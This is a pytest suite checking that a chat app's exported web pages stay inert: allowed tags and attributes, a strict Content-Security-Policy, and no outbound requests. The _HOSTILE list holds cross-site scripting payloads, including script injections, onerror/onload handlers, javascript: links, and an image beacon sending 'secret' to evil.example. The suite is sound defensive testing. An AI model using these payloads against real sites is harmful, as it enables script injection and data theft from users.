"""Exported web pages can do nothing, whatever was said in the chat (row 80)."""

import base64
import hashlib
import re
import socket
from html.parser import HTMLParser
from typing import Final

import pytest
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QApplication

from app.import_export.loading import (
    ExportedConversation,
    ExportedHandover,
    ExportedMessage,
    Labels,
    TextPart,
)
from app.paths import resources
from app.ui.import_export.web_page import web_page_writer
from tests.support.import_export_fixtures import NOON, chat_of, full_chat
from tests.support.markup import MARKUP

_TAGS: Final = frozenset({"html", "head", "meta", "title", "style", "body", "main", "header"}) | {
    *("article", "h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "span", "b", "em", "strong", "s"),
    *("a", "br", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "ul", "li"),
    *("blockquote", "hr", "details", "summary", "svg", "g", "path", "rect"),
}
_ATTRIBUTES: Final = {
    "html": {"lang"},
    "meta": {"charset", "http-equiv", "content", "name"},
    "a": {"href", "id"},
    "th": {"align"},
    "td": {"align"},
    "svg": {"role", "aria-label", "width", "height", "viewbox"},
    "g": {"fill"},
    "path": {"d"},
    "rect": {"x", "y", "width", "height"},
}
_LINK: Final = re.compile(r"(https?://|mailto:|#t\d+-\d+-(note|mark)-\d+$)")
_EVERYWHERE: Final = {"class", "dir"}
_HOSTILE: Final = (
    *MARKUP,
    "[x](javascript:alert(1)) [y](data:text/html,<script>) [z](//evil.example/)",
    "![pixel](https://evil.example/p.png?q=secret)",
    "<https://evil.example> <javascript:alert(1)>",
    "```</code></pre><script>alert(1)</script>\n</style><img src=x>\n```",
    '```"><script>\nx\n```',
    "</article></main></body><script src='http://127.0.0.1:9/x.js'></script>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<base href='http://127.0.0.1:9/'>",
    "</style><style>@import url(http://127.0.0.1:9/x.css)</style>",
    'a[^1] [b](#t0-0-note-1)\n\n[^1]: "><img src=x onerror=alert(1)>',
    "$$\\frac{1}{2}$$\n\n$$\\text{</svg><script>alert(1)</script>}$$",
    '$$\\text{" onload=alert(1) x="} x^2$$\n\n$$\\href{http://127.0.0.1:9/}{x}$$',
    "| <img src=x> | b |\n|---|---|\n| <svg/onload=x> | `</td>` |",
)


class _Page(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def _written(chat: ExportedConversation) -> str:
    return "".join(web_page_writer(resources() / "themes")(chat, Labels(), NOON))


def _everywhere(payload: str) -> ExportedConversation:
    """Return a chat that has the payload wherever text from outside can stand."""
    parts = (
        TextPart(payload, payload, payload),
        ExportedHandover(payload, payload, payload),
        *full_chat().messages[1].parts,
    )
    messages = (
        ExportedMessage("1", "user", NOON, (TextPart(payload),)),
        ExportedMessage("2", "assistant", NOON, parts),
    )
    return ExportedConversation("c", payload, NOON, messages)


@pytest.mark.security(80)
def test_rendered_page_contains_only_inert_elements() -> None:
    for payload in _HOSTILE:
        page = _Page(_written(_everywhere(payload)))
        for tag, attributes in page.tags:
            assert tag in _TAGS, payload
            assert set(attributes) <= _ATTRIBUTES.get(tag, set()) | _EVERYWHERE, payload
        for link in page.of("a"):
            assert re.match(
                r"(https?://|mailto:|#t\d+-\d+-(note|mark)-\d+$)", link["href"] or ""
            ), payload
        assert len(page.of("style")) == 1, payload


@pytest.mark.security(80)
def test_the_policy_of_a_page_allows_its_own_style_and_images_and_nothing_else() -> None:
    text = _written(_everywhere("</style><b>x</b>"))
    (policy,) = [
        meta["content"] or ""
        for meta in _Page(text).of("meta")
        if meta.get("http-equiv") == "Content-Security-Policy"
    ]

    style = text.split("<style>", 1)[1].split("</style>", 1)[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy.split("; ") == [
        "default-src 'none'",
        f"style-src 'sha256-{digest}'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert "url(" not in style
    assert "@import" not in style


@pytest.mark.security(80)
def test_opening_a_page_asks_nobody_for_anything(qapp: QApplication) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        port = server.getsockname()[1]
        for payload in _HOSTILE:
            aimed = payload.replace("127.0.0.1:9", f"127.0.0.1:{port}")
            document = QTextDocument()
            document.setHtml(_written(_everywhere(aimed)))
            document.adjustSize()
        qapp.processEvents()

        with pytest.raises(BlockingIOError):
            server.accept()


def test_a_page_shows_what_was_said() -> None:
    text = _written(full_chat())

    assert "<title>Tidy *everything*</title>" in text
    assert "<em>see</em>" in text
    assert "Writer continues" in text
    assert "<summary><b>Write file</b> <code>~/notes/`a`.md</code> · allowed by you" in text
    assert "Some messages may be missing" in text


def test_code_is_coloured_and_lists_are_nested() -> None:
    text = _written(chat_of("- one\n  - two\n- three\n\n```python\nreturn 1\n```"))

    assert '<span class="k">return</span> <span class="n">1</span>' in text
    assert re.sub(r"<span[^>]*>.</span>|<p[^>]*>|</p>|\n", "", text).count("<ul><li>") == 2
    page = _Page(text)
    assert len(page.of("ul")) == 2
    assert len(page.of("li")) == 3


def test_formulas_and_notes_can_be_read_in_a_page() -> None:
    said = "It is $x^2$, see[^1].\n\n$$\n\\mystery{<img>}\n$$\n\n[^1]: As they say."
    text = _written(chat_of(said))

    assert 'It is $x^2$, see<a href="#t1-0-note-1" id="t1-0-mark-1">[1]</a>.' in text
    assert '<p class="formula" dir="ltr">\\mystery{&lt;img&gt;}</p>' in text
    assert (
        '<p dir="auto"><a class="mark" id="t1-0-note-1" href="#t1-0-mark-1">1.</a> As they say.</p>'
    ) in text


def test_a_page_has_both_looks() -> None:
    text = _written(chat_of("x"))

    assert "@media (prefers-color-scheme:dark)" in text
    assert '<meta name="color-scheme" content="light dark">' in text


def test_each_text_has_notes_of_its_own() -> None:
    said = "a[^1] b[^1]\n\n[^1]: n"
    page = _Page(_written(chat_of(said, said)))

    names = [link["id"] for link in page.of("a") if "id" in link]
    leads_to = [(link["href"] or "")[1:] for link in page.of("a")]
    assert len(names) == len(set(names)) == 4
    assert set(leads_to) == set(names)
    assert len(leads_to) == 6


@pytest.mark.security(80)
def test_formula_is_drawn_with_nothing_but_shapes() -> None:
    page = _Page(_written(chat_of("$$\\frac{1}{x}$$\n\n" * 60)))

    drawn = page.of("svg")
    # Those of the window: further ones of a message stay text.
    assert len(drawn) == 50
    assert {picture["aria-label"] for picture in drawn} == {r"\frac{1}{x}"}
    assert page.of("path")
    assert not any("style" in attributes for _, attributes in page.tags)
